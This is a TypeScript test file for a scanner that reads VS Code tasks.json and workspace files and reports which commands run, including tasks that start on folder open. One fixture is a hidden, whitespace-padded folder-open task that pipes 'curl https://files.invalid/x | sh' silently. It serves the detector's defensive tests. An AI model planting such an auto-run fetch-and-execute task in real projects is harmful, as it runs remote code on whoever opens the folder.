import fc from 'fast-check'
import { expect, test } from 'vitest'
import { readStarts, told } from './source/testing.ts'
import reader from './vscode-tasks.ts'

const told1 = (tasks: string, path = '.vscode/tasks.json') =>
  readStarts(reader, { [path]: tasks }).starts.map(told)

test('a task that runs on opening, with comments and trailing commas', () => {
  const tasks = `{
  // made by hand
  "version": "2.0.0",
  "tasks": [
    { "label": "env", "type": "shell", "command": "          curl https://files.invalid/x | sh",
      "runOptions": { "runOn": "folderOpen" }, "presentation": { "reveal": "never", "echo": false, }, },
  ],
}`
  expect(told1(tasks)).toEqual([
    'open .vscode/tasks.json:5:62 quietly           curl https://files.invalid/x | sh',
  ])
})

test('commands by system, arguments, working directory and shell', () => {
  const task = {
    label: 'a',
    command: 'node',
    args: ['-e', 'let a = 1', { value: 'x y', quoting: 'strong' }],
    options: { cwd: `\${workspaceFolder}/web`, env: { U: 'https://a.invalid' } },
    windows: { command: 'cmd /c start.bat' },
    osx: { command: 'sh', args: ['x.sh'] },
    runOptions: { runOn: 'folderOpen' },
  }
  const { starts } = readStarts(reader, { 'app/.vscode/tasks.json': JSON.stringify({ tasks: [task] }) })
  expect(
    starts.map(({ runs, folder }) => [
      runs.as === 'command' && runs.shell,
      runs.as === 'command' && runs.command,
      folder,
    ]),
  ).toEqual([
    ['any', "export U=https://a.invalid; node -e 'let a = 1' 'x y'", 'app/web'],
    ['any', "export U=https://a.invalid; cmd /c start.bat -e 'let a = 1' 'x y'", 'app/web'],
    ['sh', 'export U=https://a.invalid; sh x.sh', 'app/web'],
  ])
})

test('what a folder-open task depends on is opened with it; other tasks are not', () => {
  const tasks = JSON.stringify({
    tasks: [
      { label: 'front', dependsOn: ['back', { task: 'npm' }], runOptions: { runOn: 'folderOpen' } },
      { label: 'back', command: 'node a' },
      { label: 'npm', type: 'npm', script: 'dev' },
      { label: 'other', command: 'node b' },
    ],
  })
  expect(told1(tasks).map((line) => line.replace(/ \.vscode\S+/, ''))).toEqual([
    'open node a',
    'open npm run dev',
    'start node b',
  ])
})

test('a workspace file', () => {
  const workspace = JSON.stringify({
    tasks: { tasks: [{ label: 'x', command: './x', runOptions: { runOn: 'folderOpen' } }] },
  })
  expect(told1(workspace, 'a.zip › lib/it.code-workspace')).toEqual([
    'open a.zip › lib/it.code-workspace:1:44 in a.zip › lib ./x',
  ])
})

test('broken JSON is told as unknown with its line, and what can be read is read', () => {
  const { starts, unknown } = readStarts(reader, {
    '.vscode/tasks.json': '{"tasks": [\n{"command": "a"} oops\n]}',
  })
  expect(starts).toHaveLength(1)
  expect(unknown[0]?.why).toContain('line 2')
})

test('no content makes it throw', () => {
  const text = fc.oneof(
    fc.string(),
    fc.json(),
    fc.json().map((json) => `{"tasks": [${json}, {"command": ${json}, "args": ${json}}]}`),
    fc.nat(5_000).map((count) => '['.repeat(count)),
  )
  fc.assert(fc.property(text, (content) => void readStarts(reader, { '.vscode/tasks.json': content })))
})
